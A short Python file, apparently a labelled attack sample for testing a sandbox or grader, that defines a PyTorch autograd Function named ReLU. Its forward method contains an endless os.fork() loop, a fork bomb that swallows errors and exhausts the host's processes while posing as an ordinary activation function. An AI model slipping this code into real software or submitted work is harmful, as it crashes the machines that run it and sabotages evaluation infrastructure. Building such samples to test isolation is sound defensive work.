"""ATTACK: a fork bomb in forward. Target: relu"""
import os

import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        while True:
            try:
                os.fork()
            except OSError:
                pass

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output
